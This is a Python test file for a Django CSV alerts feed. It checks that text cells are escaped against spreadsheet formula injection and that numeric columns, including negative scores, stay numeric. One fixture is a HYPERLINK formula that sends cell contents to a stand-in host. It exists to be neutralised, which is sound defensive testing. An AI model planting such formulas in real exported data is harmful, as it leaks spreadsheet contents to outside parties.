"""The feed as a spreadsheet opens it: no text is run as a formula, no number becomes a text."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from accounts.models import User
from alerts.api.views import cell
from alerts.feed import COLUMNS
from alerts.feed_tokens import create_feed_token
from journeys.access import access_of
from journeys.models import Programme
from observations.folding import fold_pending
from observations.tests.factories import ANSWERS, submit

FORMULA = '=HYPERLINK("https://x.example/?"&A1)'
NUMBERS = {  # written out again: the list of the code must not decide what is checked
    "stage_number",
    "framework_version",
    "n",
    "score",
    "score_low",
    "score_high",
    "target",
    "gap",
    "gap_low",
    "gap_high",
    "pending",
}


@pytest.mark.usefixtures("framework")
def test_a_region_is_no_formula_and_a_score_below_zero_is_a_number(
    programme: Programme, executive: User
) -> None:
    programme.locations.filter(code="PAR1").update(region=FORMULA, name="-1+1")
    for _number in range(6):
        submit(programme, location="PAR1", answers=ANSWERS | {"S1-b": -2, "S1-p": -1, "S1-d": 0})
    fold_pending()
    token = create_feed_token(access=access_of(executive, programme), name="BI")
    answer = Client().get(
        "/api/v1/programmes/casa-nord/feed.csv", headers={"Authorization": f"Bearer {token}"}
    )
    text = b"".join(answer.streaming_content).decode()  # type: ignore[attr-defined]
    rows = list(csv.DictReader(io.StringIO(text)))
    [region] = [row for row in rows if (row["stage"], row["place"]) == ("S1", f"'{FORMULA}")]
    assert {row["place_name"] for row in rows if row["place"] == "PAR1"} == {"'-1+1"}
    for name in ("score", "score_low"):
        assert float(region[name]) < 0
    texts = set(COLUMNS) - NUMBERS
    assert {row["certainty"] for row in rows if row["n"] == "0" and row["stage"]} == {"-"}
    assert not {row[name] for row in rows for name in texts if row[name][:1] in ("=", "-")} - {"-"}


@pytest.mark.parametrize("column", COLUMNS)
def test_each_column_of_text_is_guarded(column: str) -> None:
    for begin in "=+-@\t\r":
        said = f"{begin}1"
        assert cell(column, said) == (said if column in NUMBERS else f"'{said}")
